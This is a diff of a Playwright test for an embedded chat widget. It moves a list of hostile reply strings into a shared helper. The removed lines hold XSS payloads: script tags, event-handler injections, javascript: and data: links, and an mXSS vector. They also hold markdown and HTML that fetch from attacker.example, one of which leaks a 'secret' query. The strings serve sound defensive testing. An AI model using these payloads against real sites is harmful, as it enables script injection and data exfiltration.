@@ -2,6 +2,7 @@
 // storage, patched globals, aggressive CSS, a strict CSP, pages that embed
 // twice or navigate with the history API.
 import type { Page, Request } from '@playwright/test'
+import { HOSTILE_REPLIES } from '../test/helpers/hostile-replies'
 import { SELECTORS } from '../test/selectors'
 import { expect, KEY, readConversation, strictCsp, test, watchCsp, webhookBody, type Widget } from './fixtures'
 
@@ -36,25 +37,6 @@ function requestsAfter(page: Page): Request[] {
   return list
 }
 
-const HOSTILE = [
-  '<script>window.__pwned = 1</script>',
-  '<img src=x onerror="window.__pwned = 2">',
-  '<svg onload="window.__pwned = 3"><script>window.__pwned = 4</script></svg>',
-  '<iframe src="https://attacker.example/frame"></iframe>',
-  '![](https://attacker.example/?q=secret)',
-  '![logo](https://attacker.example/logo.png "title")',
-  '[click](javascript:window.__pwned=5)',
-  '[click]( JaVaScRiPt:window.__pwned=6)',
-  '[click](data:text/html,<script>alert(1)</script>)',
-  '[**bold**](vbscript:msgbox)',
-  '<a href="javascript:window.__pwned=7">x</a>',
-  '<style>@import url(https://attacker.example/x.css)</style>',
-  '<link rel=stylesheet href=https://attacker.example/y.css>',
-  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=8">',
-  '<video src=https://attacker.example/v.mp4 autoplay></video><audio src=https://attacker.example/a.mp3 autoplay></audio>',
-  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
-]
-
 test('hostile replies render as text and links, never run or fetch anything', async ({ page, embed, widget, mock }) => {
   let dialogs = 0
   page.on('dialog', (d) => {
@@ -72,9 +54,9 @@ test('hostile replies render as text and links, never run or fetch anything', as
   // requests are counted: on a busy machine the chunk's request could
   // otherwise be reported after the click returned.
   await expect(widget.message).toBeVisible()
-  mock.inject(...HOSTILE.map((text, i) => ({ fault: 'reply' as const, text, times: 1, message_includes: `attack ${i}.` })))
+  mock.inject(...HOSTILE_REPLIES.map((text, i) => ({ fault: 'reply' as const, text, times: 1, message_includes: `attack ${i}.` })))
   const requests = requestsAfter(page)
-  for (let i = 0; i < HOSTILE.length; i++) {
+  for (let i = 0; i < HOSTILE_REPLIES.length; i++) {
     await widget.say(`attack ${i}.`)
     await expect(widget.agentMessages).toHaveCount(i + 2)
   }
